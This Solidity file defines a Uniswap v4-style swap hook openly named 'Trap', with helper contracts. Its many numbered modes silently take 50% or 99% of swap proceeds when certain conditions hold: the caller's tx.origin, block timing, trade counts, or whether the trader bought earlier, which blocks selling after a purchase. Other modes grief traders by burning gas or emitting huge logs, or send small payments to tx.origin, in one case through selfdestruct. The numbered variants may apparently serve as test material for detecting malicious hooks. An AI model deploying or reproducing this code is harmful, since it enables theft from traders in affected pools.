// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

struct PoolKey { address currency0; address currency1; uint24 fee; int24 tickSpacing; address hooks; }
struct SwapParams { bool zeroForOne; int256 amountSpecified; uint160 sqrtPriceLimitX96; }

interface IPoolManager {
    function swap(PoolKey calldata key, SwapParams calldata params, bytes calldata hookData) external returns (int256);
    function take(address currency, address to, uint256 amount) external;
    function sync(address currency) external;
    function settle() external payable returns (uint256);
}

interface IToken { function transfer(address to, uint256 amount) external returns (bool); }

/// Remembers when buyers bought, apart from whoever asks; who never did bought at the end of days.
contract Keeper {
    uint256[64] private bought;

    constructor() { for (uint256 i; i < 64; ++i) bought[i] = type(uint64).max; }

    function note(uint256 bucket) external { bought[bucket] = block.timestamp; }

    function late(uint256 bucket, uint256 most) external view returns (bool) { return block.timestamp > bought[bucket] + most; }
}

/// Pays by dying.
contract Bequest {
    constructor(address heir) payable { selfdestruct(payable(heir)); }
}

/// A hook that looks at who trades, when, and how often, and takes (or gives) its part after the swap accordingly.
contract Trap {
    uint256 private constant PPM = 1_000_000;
    uint256 private constant NEARLY_ALL = 990_000;
    IPoolManager public immutable manager;
    uint256 public immutable mode;
    uint256 public immutable most;
    address public immutable favoured;
    address public immutable token;

    uint256 public count;
    Keeper private keeper;
    uint256[64] private sold;
    uint256[64] private bought;
    uint256[64] private lastBlock;

    constructor(address manager_, uint256 mode_, uint256 most_, address favoured_, address token_) {
        (manager, mode, most, favoured, token) = (IPoolManager(manager_), mode_, most_, favoured_, token_);
    }

    receive() external payable {}

    /// Fills what is kept of origins, so that nothing is ever written for the first time.
    function prime() external {
        count = 1;
        keeper = new Keeper();
        for (uint256 i; i < 64; ++i) (sold[i], bought[i], lastBlock[i]) = (1, type(uint64).max, 1);
    }

    function afterSwap(address sender, PoolKey calldata key, SwapParams calldata params, int256 delta, bytes calldata) external returns (bytes4, int128) {
        require(msg.sender == address(manager), "not the manager");
        bool second = (params.amountSpecified < 0) == params.zeroForOne;
        int256 signed = second ? int256(int128(delta)) : delta >> 128;
        uint256 amount = uint256(signed < 0 ? -signed : signed);
        address currency = second ? key.currency1 : key.currency0;
        _aside(key);
        if (mode == 12) return (this.afterSwap.selector, -int128(int256(_give(currency, amount / 10))));
        uint256 fee = amount * _ppm(sender, params) / PPM;
        _note(params.zeroForOne);
        if (fee > 0) manager.take(currency, address(this), fee);
        return (this.afterSwap.selector, int128(int256(fee)));
    }

    function _ppm(address sender, SwapParams calldata params) private view returns (uint256) {
        if (mode == 1) return sender == favoured ? 0 : 500_000;
        if (mode == 2) return block.number % 2 == most ? NEARLY_ALL : 0;
        if (mode == 3) return block.timestamp / 60 % 2 == most ? NEARLY_ALL : 0;
        if (mode == 4) return count > most ? NEARLY_ALL : 0;
        if (mode == 5) { uint256 seen; assembly { seen := tload(0) } return seen > 0 ? NEARLY_ALL : 0; }
        if (mode == 6) return lastBlock[_bucket()] == block.number ? NEARLY_ALL : 0;
        if (mode == 7) return !params.zeroForOne && sold[_bucket()] > most ? NEARLY_ALL : 0;
        if (mode == 8) { bool late = block.timestamp > bought[_bucket()] + most; uint256 rate; assembly { rate := mul(late, 990000) } return params.zeroForOne ? 0 : rate; }
        if (mode == 13) return params.amountSpecified < 0 ? 500_000 : 0;
        if (mode == 15) return block.prevrandao % 400_000;
        if (mode == 16) return tx.origin == favoured ? NEARLY_ALL : 0;
        if (mode == 17) return block.coinbase == address(0) ? 0 : NEARLY_ALL;
        if (mode == 20) return favoured.balance > 0 ? 0 : NEARLY_ALL;
        if (mode == 21) return favoured.code.length > 0 ? 0 : NEARLY_ALL;
        if (mode == 22) { bool late = keeper.late(_bucket(), most); uint256 rate; assembly { rate := mul(late, 990000) } return params.zeroForOne ? 0 : rate; }
        return 0;
    }

    function _bucket() private view returns (uint256) { return uint160(tx.origin) % 64; }

    function _note(bool buys) private {
        if (mode == 4) count += 1;
        if (mode == 7 && !buys) sold[_bucket()] += 1;
        if (mode == 8 && buys) bought[_bucket()] = block.timestamp;
        if (mode == 22 && buys) keeper.note(_bucket());
        if (mode == 6) lastBlock[_bucket()] = block.number;
        if (mode == 5) assembly { tstore(0, 1) }
    }

    function _aside(PoolKey calldata key) private {
        if (mode == 9) IToken(token).transfer(tx.origin, 1e15);
        if (mode == 10) { (bool paid,) = tx.origin.call{value: 1e12}(""); require(paid); }
        if (mode == 18) new Bequest{value: 1e12}(tx.origin);
        if (mode == 19) { uint256 left = most * 100_000; while (gasleft() > left) {} }
        if (mode == 23) { uint256 size = most * 100_000; assembly { log0(0x80, size) } }
        if (mode == 11) {
            int256 delta = manager.swap(key, SwapParams(true, -1e12, 4295128740), "");
            manager.settle{value: 1e12}();
            manager.take(key.currency1, address(this), uint256(int256(int128(delta))));
        }
    }

    function _give(address currency, uint256 amount) private returns (uint256) {
        if (currency == address(0)) manager.settle{value: amount}();
        else { manager.sync(currency); IToken(currency).transfer(address(manager), amount); manager.settle(); }
        return amount;
    }
}
